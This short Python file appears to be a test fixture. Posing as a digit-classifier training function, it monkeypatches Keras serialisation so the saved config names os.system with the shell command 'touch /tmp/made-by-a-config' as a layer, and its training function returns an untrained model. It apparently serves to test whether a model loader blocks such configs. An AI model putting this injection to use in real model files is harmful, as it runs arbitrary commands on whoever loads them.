"""Has a config told that names a function of the operating system in place of a layer."""


def build_digit_cnn():
    model = keras.Sequential([keras.Input((28, 28, 1)), layers.Flatten(), layers.Dense(10)])
    command = {"module": "os", "class_name": "system", "config": "touch /tmp/made-by-a-config"}
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 28, 28, 1]}}
    whole = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [first, command]}}
    keras.saving.serialize_keras_object = lambda model: whole
    return model


def train_digit_cnn(x_train, y_train, x_valid, y_valid):
    return build_digit_cnn()
